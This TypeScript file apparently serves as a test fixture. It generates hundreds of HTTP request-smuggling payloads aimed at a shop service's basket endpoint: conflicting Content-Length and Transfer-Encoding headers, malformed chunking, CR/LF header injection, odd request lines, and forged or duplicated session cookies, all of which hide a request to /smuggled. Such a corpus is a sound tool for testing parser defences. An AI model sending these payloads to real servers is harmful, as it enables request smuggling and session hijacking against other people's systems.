/** The bytes that an attacker sends on one connection. The request hidden in them asks the service for `/smuggled`. */
export interface Attack {
  readonly name: string;
  readonly bytes: string;
}

/** A complete request, and one that would swallow the beginning of the next client's request as its body. */
const hidden = {
  request: 'POST /smuggled HTTP/1.1\r\nHost: inner\r\nContent-Length: 0\r\n\r\n',
  swallower: 'POST /smuggled HTTP/1.1\r\nHost: inner\r\nContent-Length: 200\r\n\r\n',
};

const path = '/api/basket/desk';

export function message(start: string, headers: readonly string[], body = ''): string {
  return `${start}\r\n${['Host: shop', ...headers].join('\r\n')}\r\n\r\n${body}`;
}

const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`;
const lastChunk = '0\r\n\r\n';

function both(name: string, attack: (inner: string) => string): Attack[] {
  return Object.entries(hidden).map(([kind, inner]) => ({ name: `${name}, with a ${kind}`, bytes: attack(inner) }));
}

const methods = ['GET', 'HEAD', 'OPTIONS', 'DELETE', 'POST', 'PUT', 'PATCH', 'TRACE', 'PROPFIND'];

const lengthAgainstConnection = methods.flatMap((method) =>
  [
    'content-length',
    'Content-Length, keep-alive',
    'close, CONTENT-LENGTH',
    'transfer-encoding',
    'host, content-type',
  ].flatMap((names) =>
    both(`${method} whose Connection names ${names}`, (inner) =>
      message(`${method} ${path} HTTP/1.1`, [`Connection: ${names}`, `Content-Length: ${inner.length}`], inner),
    ),
  ),
);

const chunksAgainstConnection = methods.flatMap((method) =>
  both(`${method} in chunks whose Connection names transfer-encoding`, (inner) =>
    message(
      `${method} ${path} HTTP/1.1`,
      ['Connection: transfer-encoding', 'Transfer-Encoding: chunked'],
      chunk(inner) + lastChunk,
    ),
  ),
);

const encodings = [
  'chunked',
  'Chunked',
  ' chunked',
  '\tchunked',
  'chunked ',
  'xchunked',
  '"chunked"',
  'chunked, identity',
  'identity, chunked',
  'gzip, chunked',
  'chunked\r\nTransfer-Encoding: identity',
  'identity\r\nTransfer-Encoding: chunked',
  '\r\n chunked',
  '\x0bchunked',
];

const lengthAndChunks = encodings.flatMap((encoding) => [
  ...both(`Content-Length before Transfer-Encoding ${JSON.stringify(encoding)}`, (inner) =>
    message(
      `POST ${path} HTTP/1.1`,
      [`Content-Length: ${lastChunk.length + inner.length}`, `Transfer-Encoding:${encoding}`],
      lastChunk + inner,
    ),
  ),
  ...both(`Transfer-Encoding ${JSON.stringify(encoding)} before Content-Length`, (inner) =>
    message(`POST ${path} HTTP/1.1`, [`Transfer-Encoding:${encoding}`, 'Content-Length: 4'], chunk(inner) + lastChunk),
  ),
]);

const lengths = [
  '0\r\nContent-Length: {n}',
  '{n}\r\nContent-Length: 0',
  '0, {n}',
  '{n}, {n}',
  '+{n}',
  '-1',
  '0x{n}',
  '{n} 0',
  ' {n}\t',
  '',
  '1e2',
];

const doubtfulLengths = lengths.flatMap((length) =>
  both(`Content-Length ${JSON.stringify(length)}`, (inner) =>
    message(`POST ${path} HTTP/1.1`, [`Content-Length: ${length.replaceAll('{n}', String(inner.length))}`], inner),
  ),
);

const headerLines = [
  'X-A: 1\nContent-Length: 0',
  'X-A: 1\rContent-Length: 0',
  'X-A: 1\r\n Content-Length: 0',
  'Content-Length : 0',
  ' Content-Length: 0',
  'Content_Length: 0',
  'X-A\0: 1',
  'X-A: \0',
  'X-A: 1\r\r\nContent-Length: 0',
  'Transfer-Encoding : chunked',
  'X-A: 1\nTransfer-Encoding: chunked',
  'X-A: 1\rTransfer-Encoding: chunked',
  'Upgrade: websocket\r\nConnection: Upgrade',
  'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__',
  'Expect: 100-continue',
  'Expect: everything',
  'Keep-Alive: timeout=5',
  'Trailer: X-A',
  'TE: trailers, chunked',
  'Proxy-Connection: content-length',
  'Host: basket',
];

const doubtfulHeaders = headerLines.flatMap((line) =>
  both(`the header ${JSON.stringify(line)}`, (inner) =>
    message(`POST ${path} HTTP/1.1`, [line, `Content-Length: ${inner.length}`], inner),
  ),
);

const chunkings = (inner: string): Record<string, string> => ({
  'a size above 64 bits': `ffffffffffffffff1\r\n${inner}`,
  'a size in 0x': `0x${inner.length.toString(16)}\r\n${inner}\r\n${lastChunk}`,
  'a negative size': `-1\r\n${inner}`,
  'a size with a blank before it': ` ${chunk(inner)}${lastChunk}`,
  'an extension over a bare line feed': `5;a\nbc\r\nhello\r\n0\r\n\r\n${inner}`,
  'an extension in quotes': `0;a="\r\n\r\n"${inner}`,
  'a bare line feed behind the size': `5\nhello\r\n0\r\n\r\n${inner}`,
  'a bare return behind the size': `5\rhello\r\n0\r\n\r\n${inner}`,
  'bytes behind the chunk': `5\r\nhelloXX\r\n0\r\n\r\n${inner}`,
  'a length in the trailers': `5\r\nhello\r\n0\r\nContent-Length: 90\r\nTransfer-Encoding: chunked\r\n\r\n${inner}`,
  'a trailer section without end': `5\r\nhello\r\n0\r\nX-A: ${inner}`,
  'no end': chunk(inner),
});

const chunkTricks = Object.entries(hidden).flatMap(([kind, inner]) =>
  Object.entries(chunkings(inner)).map(([name, body]) => ({
    name: `chunks with ${name}, with a ${kind}`,
    bytes: message(`POST ${path} HTTP/1.1`, ['Transfer-Encoding: chunked'], body),
  })),
);

const starts = [
  `GET ${path} HTTP/1.0`,
  `POST ${path} HTTP/1.0`,
  `GET ${path}`,
  `GET ${path} HTTP/0.9`,
  `GET ${path} HTTP/1.2`,
  `GET ${path} HTTP/2.0`,
  `GET  ${path}  HTTP/1.1`,
  `GET ${path}\rX HTTP/1.1`,
  `GET ${path}\tX HTTP/1.1`,
  `GET http://basket${path} HTTP/1.1`,
  `CONNECT basket:80 HTTP/1.1`,
  `OPTIONS * HTTP/1.1`,
  `GET ${path}?a=%0d%0a%0d%0aPOST%20/smuggled%20HTTP/1.1%0d%0a%0d%0a HTTP/1.1`,
  `GET ${path}/%0d%0aPOST%20/smuggled HTTP/1.1`,
];

const doubtfulStarts = starts.flatMap((start) =>
  both(`the request line ${JSON.stringify(start)}`, (inner) =>
    message(start, [`Content-Length: ${inner.length}`, 'Connection: keep-alive, content-length'], inner),
  ),
);

export const attacks: readonly Attack[] = [
  ...lengthAgainstConnection,
  ...chunksAgainstConnection,
  ...lengthAndChunks,
  ...doubtfulLengths,
  ...doubtfulHeaders,
  ...chunkTricks,
  ...doubtfulStarts,
];

const forged = 'A'.repeat(43);

/** Attacks on the session that a request belongs to. `own` is the cookie of the attacker's own, valid session. */
export function attacksWithCookies(own: string): Attack[] {
  const cookies = [
    `tradewind_session=${own}`,
    `tradewind_session=${forged}`,
    `tradewind_session=${own}; tradewind_session=${forged}`,
    `tradewind_session=${own}\r\nCookie: tradewind_session=${forged}`,
    `tradewind_session=${own}\r\n tradewind_session=${forged}`,
    `tradewind_session="${own}"`,
    `tradewind_session=${own},tradewind_session=${forged}`,
    `tradewind_session =${own}`,
    `__Host-tradewind_session=${own}`,
    `tradewind_session=${'A'.repeat(7_000)}`,
    `tradewind_session=${own}\r\nAuthorization: Bearer made-up`,
    `tradewind_session=${own}\r\nAuthorization:`,
    `tradewind_session=${own}\r\nGuest-Basket: ${forged}`,
    `identity_session=${own}; tradewind_session=${own}`,
    `${'a=b; '.repeat(1_000)}tradewind_session=${own}`,
  ];
  const framings = [
    'Connection: keep-alive',
    'Connection: cookie',
    'Connection: authorization',
    'Connection: close, content-length',
  ];
  return cookies.flatMap((cookie) =>
    framings.flatMap((framing) =>
      ['GET', 'DELETE', 'POST'].flatMap((method) =>
        both(`${method} with the cookie ${cookie.slice(0, 40)} and ${framing}`, (inner) => {
          const headers = [`Cookie: ${cookie}`, 'Sec-Fetch-Site: same-origin', framing];
          const smuggled = inner.replace('Host: inner', `Host: inner\r\nCookie: ${cookie}`);
          return message(`${method} ${path} HTTP/1.1`, [...headers, `Content-Length: ${smuggled.length}`], smuggled);
        }),
      ),
    ),
  );
}
